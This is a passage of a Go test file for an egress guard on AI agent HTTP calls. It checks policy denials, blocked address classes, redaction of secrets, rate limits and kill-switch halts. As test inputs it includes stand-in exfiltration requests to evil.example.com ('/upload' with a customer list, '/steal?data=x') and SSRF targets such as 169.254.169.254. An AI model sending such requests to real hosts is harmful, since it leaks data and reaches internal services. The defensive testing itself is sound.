package agentguard

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"net/url"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/hardstop-labs/agentguard/audit"
	"github.com/hardstop-labs/agentguard/killswitch"
	"github.com/hardstop-labs/agentguard/policy"
	"go.uber.org/goleak"
)

// egPolicy allows the pseudo-tool http to reach api.example.com and the
// IPv6 loopback literal, and the tool search to run.
const egPolicy = `
version: 1
default: deny
rules:
  - name: api-only
    match: call.tool == "http" && (hostMatch(call.args.host, "api.example.com") || call.args.host == "::1")
    effect: allow
  - name: search
    match: call.tool == "search"
    effect: allow
`

// egRecorder keeps copies of the events the guard records.
type egRecorder struct {
	mu     sync.Mutex
	events []Event
}

func (r *egRecorder) Record(_ context.Context, e *Event) error {
	r.mu.Lock()
	defer r.mu.Unlock()
	cp := *e
	if e.Call != nil {
		c := *e.Call
		cp.Call = &c
	}
	r.events = append(r.events, cp)
	return nil
}

func (r *egRecorder) all() []Event {
	r.mu.Lock()
	defer r.mu.Unlock()
	return slices.Clone(r.events)
}

// trail summarises the events as "kind tool decision/outcome [stage]".
func (r *egRecorder) trail() []string {
	var out []string
	for _, e := range r.all() {
		if e.Call == nil {
			continue
		}
		switch e.Kind {
		case EventDecision:
			s := fmt.Sprintf("decision %s %s", e.Call.Tool, e.Decision)
			if e.Stage != "" {
				s += " " + string(e.Stage)
			}
			out = append(out, s)
		case EventResult:
			out = append(out, fmt.Sprintf("result %s %s", e.Call.Tool, e.Outcome))
		}
	}
	return out
}

func egGuard(t testing.TB, src string, opts ...Option) (*Guard, *egRecorder) {
	t.Helper()
	p, err := policy.Parse("egress.yaml", []byte(src))
	if err != nil {
		t.Fatalf("policy.Parse: %v", err)
	}
	rec := &egRecorder{}
	g, err := New(append([]Option{WithPolicy(p), WithRecorder(rec)}, opts...)...)
	if err != nil {
		t.Fatalf("New: %v", err)
	}
	t.Cleanup(func() { g.Close() })
	return g, rec
}

// egNoLeaks checks, after the test's other cleanups, that it left no
// goroutine behind: servers, connections and calls are all closed.
func egNoLeaks(t *testing.T) {
	opt := goleak.IgnoreCurrent()
	t.Cleanup(func() { goleak.VerifyNone(t, opt) })
}

// egServer is an httptest server on loopback that counts its requests.
type egServer struct {
	*httptest.Server
	hits atomic.Int64
	port string
}

func newEgServer(t testing.TB, h http.HandlerFunc) *egServer {
	t.Helper()
	s := &egServer{}
	s.Server = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		s.hits.Add(1)
		h(w, r)
	}))
	t.Cleanup(s.Close)
	_, s.port, _ = net.SplitHostPort(s.Listener.Addr().String())
	return s
}

func okHandler(w http.ResponseWriter, r *http.Request) { io.WriteString(w, "ok") }

// egResolver maps names to addresses and remembers what it was asked.
type egResolver struct {
	mu    sync.Mutex
	names map[string][]netip.Addr
	asked []string
}

func newEgResolver(kv ...string) *egResolver {
	r := &egResolver{names: map[string][]netip.Addr{}}
	for i := 0; i < len(kv); i += 2 {
		r.names[kv[i]] = append(r.names[kv[i]], netip.MustParseAddr(kv[i+1]))
	}
	return r
}

func (r *egResolver) resolve(_ context.Context, host string) ([]netip.Addr, error) {
	r.mu.Lock()
	defer r.mu.Unlock()
	r.asked = append(r.asked, host)
	a, ok := r.names[host]
	if !ok {
		return nil, fmt.Errorf("no such host %q", host)
	}
	return a, nil
}

func (r *egResolver) queries() []string {
	r.mu.Lock()
	defer r.mu.Unlock()
	return slices.Clone(r.asked)
}

// egClient returns a client through Transport and closes its idle
// connections at the end of the test.
func egClient(t testing.TB, g *Guard, opts ...EgressOption) *http.Client {
	c := HTTPClient(g, opts...)
	t.Cleanup(c.CloseIdleConnections)
	return c
}

func egGet(c *http.Client, ctx context.Context, u string) (string, error) {
	req, err := http.NewRequestWithContext(ctx, http.MethodGet, u, nil)
	if err != nil {
		return "", err
	}
	resp, err := c.Do(req)
	if err != nil {
		return "", err
	}
	defer resp.Body.Close()
	b, err := io.ReadAll(resp.Body)
	return string(b), err
}

func egDenied(t *testing.T, err error, code Code, sentinel error) *DeniedError {
	t.Helper()
	var d *DeniedError
	if !errors.As(err, &d) {
		t.Fatalf("error %v (%T) is not a *DeniedError", err, err)
	}
	if d.Code != code || !errors.Is(err, sentinel) || !errors.Is(err, ErrDenied) {
		t.Fatalf("denial %v: code %s, want %s and errors.Is %v", err, d.Code, code, sentinel)
	}
	var ue *url.Error
	if !errors.As(err, &ue) {
		t.Fatalf("error %T is not a *url.Error from the client", err)
	}
	return d
}

func TestEgressAllowedHost(t *testing.T) {
	srv := newEgServer(t, func(w http.ResponseWriter, r *http.Request) {
		if got := r.Header.Get("X-Api-Key"); r.URL.Path == "/v1/items" && got != "k-123456789" {
			t.Errorf("server saw X-Api-Key %q", got)
		}
		okHandler(w, r)
	})
	g, rec := egGuard(t, egPolicy)
	res := newEgResolver("api.example.com", "127.0.0.1")
	c := egClient(t, g, EgressResolver(res.resolve), AllowCIDRs("127.0.0.1/32"))

	req, _ := http.NewRequest("GET", "http://api.example.com:"+srv.port+"/v1/items?q=secret-query&limit=5&q=2", nil)
	req.Header.Set("X-Api-Key", "k-123456789")
	req.Header.Set("content-type", "text/plain")
	resp, err := c.Do(req)
	if err != nil {
		t.Fatalf("Do: %v", err)
	}
	if got := rec.trail(); !slices.Equal(got, []string{"decision http allow"}) {
		t.Fatalf("before the body is closed the trail is %q, want the decision only", got)
	}
	b, err := io.ReadAll(resp.Body)
	if err != nil || string(b) != "ok" {
		t.Fatalf("body %q, %v", b, err)
	}
	if got, want := rec.trail(), []string{"decision http allow", "result http ok"}; !slices.Equal(got, want) {
		t.Fatalf("trail after reading the body %q, want %q", got, want)
	}
	if err := resp.Body.Close(); err != nil {
		t.Fatalf("Close: %v", err)
	}
	if n := len(rec.all()); n != 2 {
		t.Fatalf("%d events after Close, want 2 (Done once)", n)
	}
	if srv.hits.Load() != 1 {
		t.Fatalf("server hits %d, want 1", srv.hits.Load())
	}
	args := rec.all()[0].Call.Args
	want := map[string]any{
		"method": "GET", "scheme": "http", "host": "api.example.com", "port": int64(mustPort(t, srv.port)),
		"path": "/v1/items", "query": []string{"limit", "q"}, "headers": []string{"Content-Type", "X-Api-Key"},
		"content_length": int64(0),
		"caller":         map[string]any{"tool": "", "call": "", "agent": "", "requester": "", "tenant": "", "session": ""},
	}
	if g, w := fmt.Sprint(args), fmt.Sprint(want); g != w {
		t.Fatalf("args\n%s\nwant\n%s", g, w)
	}
	js, _ := json.Marshal(args)
	for _, secret := range []string{"k-123456789", "secret-query"} {
		if strings.Contains(string(js), secret) {
			t.Errorf("args %s show the value %q", js, secret)
		}
	}
	if got := res.queries(); !slices.Equal(got, []string{"api.example.com"}) {
		t.Fatalf("resolver asked %q", got)
	}

	// Closing the body unread ends the call too.
	resp, err = c.Do(mustReq(t, context.Background(), "http://api.example.com:"+srv.port+"/unread"))
	if err != nil {
		t.Fatal(err)
	}
	if n := len(rec.all()); n != 3 {
		t.Fatalf("%d events before Close, want 3", n)
	}
	resp.Body.Close()
	if got, want := rec.trail(), []string{"decision http allow", "result http ok", "decision http allow", "result http ok"}; !slices.Equal(got, want) {
		t.Fatalf("trail after Close %q, want %q", got, want)
	}
	if _, err := resp.Body.Read(make([]byte, 1)); err == nil {
		t.Fatal("Read after Close succeeded")
	}

	// A response without a body ends the call at once.
	resp, err = c.Head("http://api.example.com:" + srv.port + "/head")
	if err != nil || resp.Body != http.NoBody {
		t.Fatalf("HEAD = %v, body %T", err, resp.Body)
	}
	if got := rec.trail(); len(got) != 6 || got[5] != "result http ok" {
		t.Fatalf("trail after HEAD %q", got)
	}
}

func mustPort(t testing.TB, s string) int {
	var p int
	if _, err := fmt.Sscan(s, &p); err != nil {
		t.Fatal(err)
	}
	return p
}

func TestEgressDeniedHost(t *testing.T) {
	srv := newEgServer(t, okHandler)
	g, rec := egGuard(t, egPolicy)
	res := newEgResolver("api.example.com", "127.0.0.1", "evil.example.com", "127.0.0.1")
	c := egClient(t, g, EgressResolver(res.resolve), AllowCIDRs("127.0.0.0/8"))

	body := strings.NewReader("the customer list")
	req, _ := http.NewRequest("POST", "http://evil.example.com:"+srv.port+"/upload", body)
	_, err := c.Do(req)
	d := egDenied(t, err, CodePolicyDenied, ErrPolicyDenied)
	if d.Tool != "http" || d.Stage != StagePolicy || d.Rule != "" && d.Rule != "default" && d.Rule != "no-match" {
		t.Logf("denial: %+v", d)
	}
	if d.Tool != "http" || d.Stage != StagePolicy || d.CallID == "" {
		t.Fatalf("denial tool %q stage %q call %q", d.Tool, d.Stage, d.CallID)
	}
	if srv.hits.Load() != 0 {
		t.Fatal("the denied host's handler ran")
	}
	if q := res.queries(); len(q) != 0 {
		t.Fatalf("the denied host was resolved (%q): a DNS lookup leaks the name", q)
	}
	if got, want := rec.trail(), []string{"decision http deny policy"}; !slices.Equal(got, want) {
		t.Fatalf("trail %q, want %q", got, want)
	}
	ev := rec.all()[0]
	if ev.Code != CodePolicyDenied || ev.Call.Args["host"] != "evil.example.com" || ev.Call.Args["method"] != "POST" ||
		ev.Call.Args["content_length"] != int64(len("the customer list")) {
		t.Fatalf("denial event %+v args %v", ev, ev.Call.Args)
	}
}

func TestEgressRedirectToDeniedHost(t *testing.T) {
	egNoLeaks(t)
	evil := newEgServer(t, okHandler)
	api := newEgServer(t, func(w http.ResponseWriter, r *http.Request) {
		http.Redirect(w, r, "http://evil.example.com:"+evil.port+"/steal?data=x", http.StatusFound)
	})
	g, rec := egGuard(t, egPolicy)
	res := newEgResolver("api.example.com", "127.0.0.1", "evil.example.com", "127.0.0.1")
	c := egClient(t, g, EgressResolver(res.resolve), AllowCIDRs("127.0.0.1/32"))

	_, err := egGet(c, context.Background(), "http://api.example.com:"+api.port+"/start")
	d := egDenied(t, err, CodePolicyDenied, ErrPolicyDenied)
	if d.Args != nil {
		t.Fatalf("denial shows arguments without a redacting recorder: %v", d.Args)
	}
	if api.hits.Load() != 1 || evil.hits.Load() != 0 {
		t.Fatalf("hits: api %d, evil %d; want 1, 0", api.hits.Load(), evil.hits.Load())
	}
	want := []string{"decision http allow", "result http ok", "decision http deny policy"}
	if got := rec.trail(); !slices.Equal(got, want) {
		t.Fatalf("trail %q, want %q", got, want)
	}
	if h := rec.all()[2].Call.Args["host"]; h != "evil.example.com" {
		t.Fatalf("the denied hop's host is %v", h)
	}

	// The same with a client that follows redirects on its own terms: the
	// transport still sees every hop.
	loose := &http.Client{
		Transport:     Transport(g, nil, EgressResolver(res.resolve), AllowCIDRs("127.0.0.1/32")),
		CheckRedirect: func(*http.Request, []*http.Request) error { return nil },
	}
	defer loose.CloseIdleConnections()
	_, err = egGet(loose, context.Background(), "http://api.example.com:"+api.port+"/start")
	egDenied(t, err, CodePolicyDenied, ErrPolicyDenied)
	if evil.hits.Load() != 0 {
		t.Fatal("the denied host's handler ran")
	}
}

func TestEgressNameResolvingToLoopback(t *testing.T) {
	srv := newEgServer(t, okHandler)
	g, rec := egGuard(t, egPolicy)
	res := newEgResolver("api.example.com", "127.0.0.1")
	c := egClient(t, g, EgressResolver(res.resolve))

	_, err := egGet(c, context.Background(), "http://api.example.com:"+srv.port+"/")
	d := egDenied(t, err, CodePolicyDenied, ErrPolicyDenied)
	if d.Stage != StageEgress || d.Rule != RuleEgressAddress || d.Tool != "http" || d.CallID == "" {
		t.Fatalf("denial %+v", d)
	}
	if !strings.Contains(d.Reason, "127.0.0.1") || !strings.Contains(d.Reason, "a loopback address") {
		t.Fatalf("reason %q does not name the address and its class", d.Reason)
	}
	if srv.hits.Load() != 0 {
		t.Fatal("the handler ran")
	}
	want := []string{"decision http allow", "decision http deny egress", "result http error"}
	if got := rec.trail(); !slices.Equal(got, want) {
		t.Fatalf("trail %q, want %q", got, want)
	}
	ev := rec.all()[1]
	if ev.Rule != RuleEgressAddress || ev.Code != CodePolicyDenied || !strings.Contains(ev.Reason, "loopback") || ev.Call.ID != d.CallID {
		t.Fatalf("recorded denial %+v", ev)
	}
}

func TestEgressAddressClasses(t *testing.T) {
	g, _ := egGuard(t, "version: 1\ndefault: allow\n")
	for _, tc := range []struct {
		url, resolvesTo, class string
	}{
		{"http://169.254.169.254/latest/meta-data/", "", "metadata"},
		{"http://[fd00:ec2::254]/latest/", "", "metadata"},
		{"http://10.0.0.1/", "", "private"},
		{"http://[::ffff:127.0.0.1]:1/", "", "loopback"},
		{"http://0.0.0.0:1/", "", "unspecified"},
		{"http://internal.example.com/", "192.168.1.10", "private"},
		{"http://mixed.example.com/", "8.8.8.8,10.1.1.1", "private"},
		{"http://nat64.example.com/", "64:ff9b::a9fe:a9fe", "metadata"},
		{"http://ula.example.com/", "fd12::1", "private"},
		{"http://ll.example.com/", "fe80::1%eth0", "link-local"},
		{"http://mc.example.com/", "239.1.1.1", "multicast"},
		{"http://bc.example.com/", "255.255.255.255", "reserved"},
	} {
		names := map[string][]netip.Addr{}
		if tc.resolvesTo != "" {
			u, _ := url.Parse(tc.url)
			for _, a := range strings.Split(tc.resolvesTo, ",") {
				names[u.Hostname()] = append(names[u.Hostname()], netip.MustParseAddr(a))
			}
		}
		resolve := func(_ context.Context, h string) ([]netip.Addr, error) {
			if a, ok := names[h]; ok {
				return a, nil
			}
			return nil, errors.New("unknown")
		}
		c := egClient(t, g, EgressResolver(resolve))
		_, err := egGet(c, context.Background(), tc.url)
		var d *DeniedError
		if !errors.As(err, &d) || d.Stage != StageEgress || !strings.Contains(d.Reason, " "+tc.class+" address") {
			t.Errorf("GET %s (resolving to %s) = %v, want an egress denial naming %s", tc.url, tc.resolvesTo, err, tc.class)
		}
	}
}

func TestAddrClass(t *testing.T) {
	for _, tc := range []struct{ addr, class string }{
		{"8.8.8.8", ""}, {"2001:4860:4860::8888", ""}, {"93.184.216.34", ""},
		{"127.0.0.1", "loopback"}, {"127.255.0.9", "loopback"}, {"::1", "loopback"}, {"::ffff:127.0.0.1", "loopback"},
		{"64:ff9b::7f00:1", "loopback"}, {"0.0.0.0", "unspecified"}, {"0.1.2.3", "unspecified"}, {"::", "unspecified"},
		{"10.2.3.4", "private"}, {"172.16.0.1", "private"}, {"172.31.255.255", "private"}, {"172.32.0.1", ""},
		{"192.168.0.1", "private"}, {"100.64.0.1", "private"}, {"fc00::1", "private"}, {"fdff::1", "private"},
		{"169.254.0.1", "link-local"}, {"fe80::1", "link-local"}, {"fe80::1%lo", "link-local"},
		{"169.254.169.254", "metadata"}, {"::ffff:169.254.169.254", "metadata"}, {"fd00:ec2::254", "metadata"},
		{"224.0.0.1", "multicast"}, {"ff02::1", "multicast"}, {"240.0.0.1", "reserved"}, {"255.255.255.255", "reserved"},
		{"::7f00:1", "reserved"},
	} {
		if got := addrClass(netip.MustParseAddr(tc.addr)); got != tc.class {
			t.Errorf("addrClass(%s) = %q, want %q", tc.addr, got, tc.class)
		}
	}
}

func TestEgressRefused(t *testing.T) {
	cfg := func(opts ...EgressOption) *egressConfig { return egConfig(t, opts...) }
	for _, tc := range []struct {
		name  string
		cfg   *egressConfig
		addr  string
		class string
	}{
		{"default loopback", cfg(), "127.0.0.1", "loopback"},
		{"default public", cfg(), "8.8.8.8", ""},
		{"private allowed", cfg(AllowPrivate()), "10.1.1.1", ""},
		{"private allows ULA", cfg(AllowPrivate()), "fd12::1", ""},
		{"private keeps loopback", cfg(AllowPrivate()), "127.0.0.1", "loopback"},
		{"private keeps metadata", cfg(AllowPrivate()), "fd00:ec2::254", "metadata"},
		{"cidr", cfg(AllowCIDRs("127.0.0.0/8")), "127.0.0.2", ""},
		{"cidr mapped", cfg(AllowCIDRs("127.0.0.0/8")), "::ffff:127.0.0.2", ""},
		{"cidr other", cfg(AllowCIDRs("127.0.0.0/8")), "10.0.0.1", "private"},
		{"cidr all keeps metadata", cfg(AllowCIDRs("0.0.0.0/0", "::/0")), "169.254.169.254", "metadata"},
		{"cidr all opens link-local", cfg(AllowCIDRs("0.0.0.0/0")), "169.254.1.1", ""},
		{"cidr exact metadata", cfg(AllowCIDRs("169.254.169.254/32")), "169.254.169.254", ""},
		{"cidr zone", cfg(AllowCIDRs("fe80::/10")), "fe80::1%eth0", ""},
	} {
		if got := tc.cfg.refused(netip.MustParseAddr(tc.addr)); got != tc.class {
			t.Errorf("%s: refused(%s) = %q, want %q", tc.name, tc.addr, got, tc.class)
		}
	}
	if got := cfg().refused(netip.Addr{}); got != "invalid" {
		t.Errorf("refused(zero Addr) = %q, want invalid", got)
	}
}

func TestEgressIPv6Literal(t *testing.T) {
	ln, err := net.Listen("tcp", "[::1]:0")
	if err != nil {
		t.Skipf("no IPv6 loopback: %v", err)
	}
	var hits atomic.Int64
	srv := &httptest.Server{Listener: ln, Config: &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		hits.Add(1)
		okHandler(w, r)
	})}}
	srv.Start()
	defer srv.Close()
	port := ln.Addr().(*net.TCPAddr).Port
	u := fmt.Sprintf("http://[::1]:%d/v6", port)
	g, rec := egGuard(t, egPolicy)

	// Refused as loopback by default, without a resolver being asked.
	res := newEgResolver()
	_, err = egGet(egClient(t, g, EgressResolver(res.resolve)), context.Background(), u)
	d := egDenied(t, err, CodePolicyDenied, ErrPolicyDenied)
	if d.Stage != StageEgress || !strings.Contains(d.Reason, "::1 is, a loopback address") && !strings.Contains(d.Reason, "loopback") {
		t.Fatalf("denial %+v", d)
	}
	if hits.Load() != 0 || len(res.queries()) != 0 {
		t.Fatalf("hits %d, resolver asked %q", hits.Load(), res.queries())
	}

	// Allowed with the prefix.
	body, err := egGet(egClient(t, g, EgressResolver(res.resolve), AllowCIDRs("::1/128")), context.Background(), u)
	if err != nil || body != "ok" || hits.Load() != 1 {
		t.Fatalf("GET %s = %q, %v (hits %d)", u, body, err, hits.Load())
	}
	for _, e := range rec.all() {
		if h := e.Call.Args["host"]; h != "::1" || e.Call.Args["port"] != int64(port) {
			t.Fatalf("args host %v port %v, want ::1 without brackets and %d", h, e.Call.Args["port"], port)
		}
	}
}

func TestEgressHostCaseAndTrailingDot(t *testing.T) {
	srv := newEgServer(t, okHandler)
	g, rec := egGuard(t, egPolicy)
	res := newEgResolver("api.example.com", "127.0.0.1", "evil.example.com", "127.0.0.1")
	c := egClient(t, g, EgressResolver(res.resolve), AllowCIDRs("127.0.0.1/32"))

	for _, h := range []string{"API.Example.COM.", "api.example.com.", "Api.Example.Com"} {
		body, err := egGet(c, context.Background(), "http://"+h+":"+srv.port+"/x")
		if err != nil || body != "ok" {
			t.Fatalf("GET via %s = %q, %v", h, body, err)
		}
	}
	for _, h := range []string{"EVIL.example.com.", "api.example.com.evil.example.com"} {
		_, err := egGet(c, context.Background(), "http://"+h+":"+srv.port+"/x")
		egDenied(t, err, CodePolicyDenied, ErrPolicyDenied)
	}
	if srv.hits.Load() != 3 {
		t.Fatalf("hits %d, want 3", srv.hits.Load())
	}
	for _, e := range rec.all() {
		if e.Kind != EventDecision {
			continue
		}
		h := e.Call.Args["host"].(string)
		if h != strings.ToLower(h) || strings.HasSuffix(h, ".") {
			t.Errorf("policy saw host %q", h)
		}
	}
	for _, q := range res.queries() {
		if q != "api.example.com" {
			t.Errorf("resolver asked %q", q)
		}
	}
}

func TestEgressUserinfo(t *testing.T) {
	srv := newEgServer(t, func(w http.ResponseWriter, r *http.Request) {
		if u, p, ok := r.BasicAuth(); !ok || u != "alice-user" || p != "hunter2-pass" {
			t.Errorf("server saw basic auth %q %q %v", u, p, ok)
		}
		okHandler(w, r)
	})
	g, rec := egGuard(t, egPolicy)
	res := newEgResolver("api.example.com", "127.0.0.1", "evil.example.com", "127.0.0.1")
	c := egClient(t, g, EgressResolver(res.resolve))

	var texts []string
	// Allowed host, refused address: an egress denial.
	_, err := egGet(c, context.Background(), "http://alice-user:hunter2-pass@api.example.com:"+srv.port+"/a")
	d := egDenied(t, err, CodePolicyDenied, ErrPolicyDenied)
	if d.Stage != StageEgress {
		t.Fatalf("stage %s", d.Stage)
	}
	js, _ := json.Marshal(d)
	texts = append(texts, d.Error(), string(js), fmt.Sprintf("%+v", d))
	if strings.Contains(err.Error(), "hunter2-pass") {
		t.Errorf("the client's error shows the password: %v", err)
	}
	// Denied host.
	_, err = egGet(c, context.Background(), "http://alice-user:hunter2-pass@evil.example.com:"+srv.port+"/b")
	d = egDenied(t, err, CodePolicyDenied, ErrPolicyDenied)
	js, _ = json.Marshal(d)
	texts = append(texts, d.Error(), string(js))
	// Allowed.
	body, err := egGet(egClient(t, g, EgressResolver(res.resolve), AllowCIDRs("127.0.0.1/32")), context.Background(),
		"http://alice-user:hunter2-pass@api.example.com:"+srv.port+"/c")
	if err != nil || body != "ok" {
		t.Fatalf("GET = %q, %v", body, err)
	}
	for _, e := range rec.all() {
		js, err := json.Marshal(e.Call.Args)
		if err != nil {
			t.Fatal(err)
		}
		texts = append(texts, string(js), e.Reason, e.Rule, errText(e.Err))
	}
	for _, s := range texts {
		if strings.Contains(s, "alice-user") || strings.Contains(s, "hunter2-pass") {
			t.Errorf("userinfo exposed in %q", s)
		}
	}
	if srv.hits.Load() != 1 {
		t.Fatalf("hits %d, want 1", srv.hits.Load())
	}
}

// TestEgressPolicyRateLimit applies the policy's limits section (the
// budget package's limiter, installed by default) to requests.
func TestEgressPolicyRateLimit(t *testing.T) {
	srv := newEgServer(t, okHandler)
	now := time.Date(2026, 1, 2, 3, 4, 5, 0, time.UTC)
	g, rec := egGuard(t, egPolicy+`
limits:
  - name: http-per-agent
    tools: [http]
    per: agent
    rate: 2/minute
    burst: 2
`, WithClock(func() time.Time { return now }))
	res := newEgResolver("api.example.com", "127.0.0.1")
	c := egClient(t, g, EgressResolver(res.resolve), AllowCIDRs("127.0.0.1/32"))
	u := "http://api.example.com:" + srv.port + "/"
	bot := WithPrincipal(context.Background(), Principal{Agent: "bot"})
	for i := range 2 {
		if _, err := egGet(c, bot, u); err != nil {
			t.Fatalf("request %d: %v", i, err)
		}
	}
	_, err := egGet(c, bot, u)
	d := egDenied(t, err, CodeRateLimited, ErrRateLimited)
	if d.RetryAfter <= 0 || d.Stage != StageRate {
		t.Fatalf("denial %+v", d)
	}
	// Another agent has its own bucket.
	if _, err := egGet(c, WithPrincipal(context.Background(), Principal{Agent: "other"}), u); err != nil {
		t.Fatalf("other agent: %v", err)
	}
	if srv.hits.Load() != 3 {
		t.Fatalf("hits %d, want 3", srv.hits.Load())
	}
	want := []string{"decision http allow", "result http ok", "decision http allow", "result http ok",
		"decision http deny rate", "decision http allow", "result http ok"}
	if got := rec.trail(); !slices.Equal(got, want) {
		t.Fatalf("trail %q, want %q", got, want)
	}
}

// TestEgressAuditLog records allowed, denied and address-refused
// requests in a real audit log: the records name the outcome, and neither
// the userinfo nor query or header values reach the file.
func TestEgressAuditLog(t *testing.T) {
	srv := newEgServer(t, okHandler)
	path := filepath.Join(t.TempDir(), "audit.jsonl")
	p, err := policy.Parse("egress.yaml", []byte(egPolicy))
	if err != nil {
		t.Fatal(err)
	}
	g, err := New(WithPolicy(p), WithAuditFile(path))
	if err != nil {
		t.Fatal(err)
	}
	res := newEgResolver("api.example.com", "127.0.0.1", "evil.example.com", "127.0.0.1")
	open := egClient(t, g, EgressResolver(res.resolve), AllowCIDRs("127.0.0.1/32"))
	strict := egClient(t, g, EgressResolver(res.resolve))
	for _, r := range []struct {
		c    *http.Client
		host string
	}{{open, "api.example.com"}, {open, "evil.example.com"}, {strict, "api.example.com"}} {
		req := mustReq(t, context.Background(), "http://alice-user:hunter2-pass@"+r.host+":"+srv.port+"/p?token=tok-98765")
		req.Header.Set("X-Api-Key", "key-24680")
		resp, err := r.c.Do(req)
		if err == nil {
			io.Copy(io.Discard, resp.Body)
			resp.Body.Close()
		}
	}
	if err := g.Close(); err != nil {
		t.Fatal(err)
	}
	data, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	for _, secret := range []string{"alice-user", "hunter2-pass", "tok-98765", "key-24680"} {
		if strings.Contains(string(data), secret) {
			t.Errorf("the audit log holds %q", secret)
		}
	}
	var got []string
	for _, line := range strings.Split(strings.TrimSpace(string(data)), "\n") {
		r, err := audit.ParseRecord([]byte(line))
		if err != nil {
			t.Fatalf("%s: %v", line, err)
		}
		if r.Tool != "http" {
			continue
		}
		s := string(r.Kind) + " " + r.Decision + r.Outcome
		if r.Stage != "" {
			s += " " + r.Stage + " " + r.Rule
		}
		got = append(got, s)
	}
	want := []string{
		"decision allow", "result ok",
		"decision deny policy ",
		"decision allow", "decision deny egress egress-address", "result error",
	}
	if !slices.Equal(got, want) {
		t.Fatalf("audit records %q, want %q", got, want)
	}
	if _, err := audit.Verify(audit.VerifyOptions{}, path); err != nil {
		t.Fatalf("Verify: %v", err)
	}
}

// TestEgressRateLimit checks what a Limiter sees of a request.
func TestEgressRateLimit(t *testing.T) {
	srv := newEgServer(t, okHandler)
	var mu sync.Mutex
	seen := map[string]int{}
	lim := LimiterFunc(func(_ context.Context, c *Call) error {
		mu.Lock()
		defer mu.Unlock()
		k := c.Principal.Agent + "/" + c.Tool
		if seen[k] >= 2 {
			return &DeniedError{Code: CodeRateLimited, Rule: "http-rate", Reason: "2 requests per test", RetryAfter: time.Minute}
		}
		seen[k]++
		return nil
	})
	g, rec := egGuard(t, egPolicy, WithLimiter(lim))
	res := newEgResolver("api.example.com", "127.0.0.1")
	c := egClient(t, g, EgressResolver(res.resolve), AllowCIDRs("127.0.0.1/32"))
	ctx := WithPrincipal(context.Background(), Principal{Agent: "bot"})
	for i := range 3 {
		_, err := egGet(c, ctx, "http://api.example.com:"+srv.port+"/")
		if i < 2 && err != nil {
			t.Fatalf("request %d: %v", i, err)
		}
		if i == 2 {
			d := egDenied(t, err, CodeRateLimited, ErrRateLimited)
			if d.RetryAfter != time.Minute || d.Rule != "http-rate" {
				t.Fatalf("denial %+v", d)
			}
		}
	}
	if srv.hits.Load() != 2 || seen["bot/http"] != 2 {
		t.Fatalf("hits %d, limiter keys %v", srv.hits.Load(), seen)
	}
	want := []string{"decision http allow", "result http ok", "decision http allow", "result http ok", "decision http deny rate"}
	if got := rec.trail(); !slices.Equal(got, want) {
		t.Fatalf("trail %q, want %q", got, want)
	}
}

func TestEgressKillSwitch(t *testing.T) {
	egNoLeaks(t)
	release := make(chan struct{})
	started := make(chan string, 4)
	srv := newEgServer(t, func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path == "/body" {
			w.Header().Set("Content-Length", "1000")
			io.WriteString(w, "first part")
			w.(http.Flusher).Flush()
		}
		started <- r.URL.Path
		select {
		case <-release:
		case <-r.Context().Done():
		}
	})
	defer close(release)
	sw := killswitch.New(killswitch.Options{})
	g, rec := egGuard(t, egPolicy, WithKillSwitch(sw))
	res := newEgResolver("api.example.com", "127.0.0.1")
	c := egClient(t, g, EgressResolver(res.resolve), AllowCIDRs("127.0.0.1/32"))
	ctx := WithPrincipal(context.Background(), Principal{Agent: "bot"})

	// Halted while waiting for the response.
	errc := make(chan error, 1)
	go func() {
		_, err := egGet(c, ctx, "http://api.example.com:"+srv.port+"/wait")
		errc <- err
	}()
	<-started
	if err := sw.Trip(killswitch.Scope{Agent: "bot"}, "ops", "exfiltration suspected"); err != nil {
		t.Fatal(err)
	}
	var err error
	select {
	case err = <-errc:
	case <-time.After(10 * time.Second): // a watchdog, not a wait: the trip returns at once
		t.Fatal("the request in flight was not halted")
	}
	d := egDenied(t, err, CodeHalted, ErrHalted)
	if !strings.Contains(d.Reason, "exfiltration suspected") {
		t.Fatalf("reason %q", d.Reason)
	}
	// Refused once tripped.
	_, err = egGet(c, ctx, "http://api.example.com:"+srv.port+"/after")
	egDenied(t, err, CodeHalted, ErrHalted)
	if err := sw.Resume(killswitch.Scope{Agent: "bot"}, "ops", "checked"); err != nil {
		t.Fatal(err)
	}

	// Halted while reading the body.
	resp, err := c.Do(mustReq(t, ctx, "http://api.example.com:"+srv.port+"/body"))
	if err != nil {
		t.Fatal(err)
	}
	<-started
	buf := make([]byte, 4)
	if _, err := io.ReadFull(resp.Body, buf); err != nil {
		t.Fatalf("first read: %v", err)
	}
	if err := sw.Trip(killswitch.Scope{Tool: "http"}, "ops", "stop all egress"); err != nil {
		t.Fatal(err)
	}
	// The rest of the first part may be buffered already: it is not
	// handed out after the trip.
	if n, err := resp.Body.Read(buf); n != 0 || !errors.Is(err, ErrHalted) {
		t.Fatalf("first read after the trip = %d, %v; want 0, ErrHalted", n, err)
	}
	readc := make(chan error, 1)
	go func() {
		_, err := io.ReadAll(resp.Body)
		readc <- err
	}()
	select {
	case err = <-readc:
	case <-time.After(10 * time.Second): // a watchdog
		t.Fatal("the body read was not halted")
	}
	if !errors.Is(err, ErrHalted) {
		t.Fatalf("read after the trip = %v, want ErrHalted", err)
	}
	if _, err := resp.Body.Read(buf); !errors.Is(err, ErrHalted) {
		t.Fatalf("second read after the trip = %v, want ErrHalted", err)
	}
	resp.Body.Close()
	want := []string{
		"decision http allow", "result http halted",
		"decision http deny killswitch",
		"decision http allow", "result http halted",
	}
	if got := rec.trail(); !slices.Equal(got, want) {
		t.Fatalf("trail %q, want %q", got, want)
	}
	if sw.InFlight() != 0 {
		t.Fatalf("%d calls still in flight", sw.InFlight())
	}
}

func mustReq(t testing.TB, ctx context.Context, u string) *http.Request {
	req, err := http.NewRequestWithContext(ctx, http.MethodGet, u, nil)
	if err != nil {
		t.Fatal(err)
	}
	return req
}

func TestEgressCaller(t *testing.T) {
	srv := newEgServer(t, okHandler)
	g, rec := egGuard(t, `
version: 1
default: deny
rules:
  - name: search-may-call-api
    match: call.tool == "http" && call.args.caller.tool == "search" && call.args.host == "api.example.com"
    effect: allow
  - name: search
    match: call.tool == "search"
